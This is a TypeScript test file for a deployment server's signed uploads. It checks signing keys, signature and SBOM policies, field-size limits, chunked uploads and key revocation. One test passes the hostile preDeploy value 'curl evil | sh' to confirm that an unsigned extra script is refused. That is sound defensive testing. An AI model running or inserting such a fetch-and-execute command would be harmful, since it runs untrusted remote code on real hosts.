/* Signed uploads over HTTP: the three fields of the form, keys, policy, and the files that come back. */
import { createHash } from 'node:crypto'
import { existsSync, readdirSync } from 'node:fs'
import { join } from 'node:path'
import t from 'tap'
import { eventsOf, type FormFields } from '../support/client.js'
import { startServer } from '../support/server.js'
import { aKey, digestOf, signedBy, statementOf } from '../support/signed-releases.js'
import { zipOf } from '../support/zips.js'

t.test('a signed upload over HTTP', async t => {
  const stage = await startServer(t, { settings: { global_deploy_token: 'global-deploy-token' } })
  const { client, as, sites, home } = stage
  const shop = await stage.createProject('shop')
  const ana = aKey('ana')
  const files = { 'index.html': 'hello' }
  const file = { filename: 'site.zip', bytes: await zipOf(files) }
  const push = (more: FormFields = []) => as(shop.token).upload([['projectId', shop.id], ...more, ['file', file]])

  const trusted = await client.post('/api/signing-keys', { public: ana.row.public, name: 'ana', projectIds: [shop.id] })
  t.match(trusted, { status: 200, body: { success: true, key: { kind: 'svc', name: 'ana' } } })
  t.match((await client.get('/api/signing-keys')).body.items, [{ fingerprint: ana.row.fingerprint }])
  const policy = { signatures: { require: 'refuse', sbom: 'require' } }
  t.equal((await client.put(`/api/projects/${shop.id}`, { ...shop, policy })).status, 200)

  t.match(await push(), { status: 403, body: { code: 'signature_missing' } })
  t.notOk(existsSync(join(sites, 'shop/index.html')))
  const bom = '{"bomFormat":"CycloneDX"}'
  const { statement, signatures } = signedBy(statementOf(shop.id, files, { sbomSha256: digestOf(bom) }), ana)
  const signed: FormFields = [
    ['statement', statement],
    ['signature', signatures[0] as string]
  ]
  t.match(await push(signed), { status: 403, body: { code: 'sbom_missing' } })
  const sbom: FormFields = [['sbom', { filename: 'sbom.json', bytes: Buffer.from(bom) }]]
  const other: FormFields = [['sbom', { filename: 'sbom.json', bytes: Buffer.from('{"bomFormat": "CycloneDX"}') }]]
  t.match(await push([...signed, ...other]), { status: 403, body: { code: 'signature_bad' } })
  t.match(await push([['signature', 'x']]), { status: 400, body: { field: 'statement' } })
  t.match(await push([['statement', 'x'.repeat(256 * 1024 + 1)]]), { status: 400, body: { field: 'statement' } })
  t.match(await push([['signature', 'x'.repeat(16 * 1024 + 1)]]), { status: 400, body: { field: 'signature' } })
  const many = Array.from({ length: 17 }, (): [string, string] => ['signature', 'x'])
  t.match(await push([['statement', statement], ...many]), { status: 400, body: { field: 'signature' } })
  t.match(await push([...signed, ['statement', statement]]), { status: 400, body: { field: 'statement' } })
  t.strictSame(readdirSync(home.tmp), [], 'nothing is left of what was refused')

  const end = eventsOf(await push([...signed, ...sbom])).pop()
  t.match(end, { status: 'success' })
  const record = (await client.get(`/api/logs/${end.deployId}`)).body
  t.match(record, { signedBy: [{ name: 'ana' }], statement: { sequence: 100, sbomSha256: digestOf(bom) } })
  const { body } = await client.get(`/api/deployments/${end.deployId}/attestations`)
  t.match(body.attestations, [
    { name: 'statement.json' },
    { name: '1.sig' },
    { name: 'sbom.json', sha256: digestOf(bom) }
  ])
  const got = await client.get(`/api/deployments/${end.deployId}/attestations/statement.json`)
  t.match(got, { status: 200, headers: { 'content-disposition': /attachment/ } })
  t.match(await client.get(`/api/deployments/${end.deployId}/attestations/9.sig`), { status: 404 })

  const key = trusted.body.key.id
  t.match(await client.post(`/api/signing-keys/${key}/revoke`, { since: '2026-01-01T00:00:00Z' }), {
    body: { key: { revokedAt: '2026-01-01T00:00:00.000Z' }, deployments: [{ id: end.deployId }] }
  })
  t.match(await push([...signed, ...sbom]), { status: 403, body: { code: 'signature_unknown_key' } })
  t.match(await client.post('/api/signing-keys/key_none/revoke'), { status: 404 })
})

t.test('an upload in pieces is signed as any other', async t => {
  const stage = await startServer(t)
  const { client, as, sites, home } = stage
  const shop = await stage.createProject('shop')
  const ana = aKey('ana')
  await client.post('/api/signing-keys', { public: ana.row.public, name: 'ana' })
  await client.put(`/api/projects/${shop.id}`, { ...shop, policy: { signatures: { require: 'refuse' } } })
  const files = { 'index.html': 'hello' }
  const pusher = as(shop.token)
  /** Sends the file in two pieces, and then the form. */
  const push = async (contents: Record<string, string>, more: FormFields) => {
    const bytes = await zipOf(contents)
    const sha256 = createHash('sha256').update(bytes).digest('hex')
    const begun = await pusher.post('/api/uploads', { projectId: shop.id, bytes: bytes.length, sha256 })
    const { uploadId, offset: from } = begun.body
    for (const [at, end] of [
      [0, 50],
      [50, bytes.length]
    ] as const) {
      if (at < from) continue
      const headers = { 'content-type': 'application/octet-stream', 'upload-offset': String(at) }
      await pusher.send('PATCH', `/api/uploads/${uploadId}`, { headers, body: bytes.subarray(at, end) })
    }
    return pusher.upload([['projectId', shop.id], ['uploadId', uploadId], ...more])
  }
  const { statement, signatures } = signedBy(statementOf(shop.id, files), ana)
  const signed: FormFields = [
    ['statement', statement],
    ['signature', signatures[0] as string]
  ]
  t.match(await push(files, []), { status: 403, body: { code: 'signature_missing' } })
  const script: FormFields = [['preDeploy', 'curl evil | sh']]
  t.match(await push(files, [...signed, ...script]), { status: 403, body: { code: 'signature_bad' } })
  const other = eventsOf(await push({ 'index.html': 'evil!' }, signed)).pop()
  t.match(other, { status: 'failed' })
  t.match(
    (await client.get(`/api/logs/${other.deployId}`)).body.errorMessage,
    /does not contain the files that were signed/
  )
  t.notOk(existsSync(join(sites, 'shop/index.html')))
  t.match(eventsOf(await push(files, signed)).pop(), { status: 'success' })
  t.strictSame(readdirSync(home.tmp), [], 'nothing is left of what was refused')
})
